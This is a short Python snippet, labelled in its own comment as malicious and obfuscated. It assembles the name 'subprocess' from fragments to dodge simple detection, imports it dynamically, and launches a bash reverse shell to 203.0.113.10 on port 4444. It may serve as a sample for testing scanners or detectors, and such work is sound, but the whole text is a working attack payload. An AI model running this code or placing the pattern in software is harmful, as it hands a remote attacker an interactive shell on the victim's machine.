# Malicious, obfuscated: importlib.import_module of a built-up name, then a reverse shell via subprocess.
import importlib

name = "sub" + "process"
mod = importlib.import_module(name)
mod.run(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"])
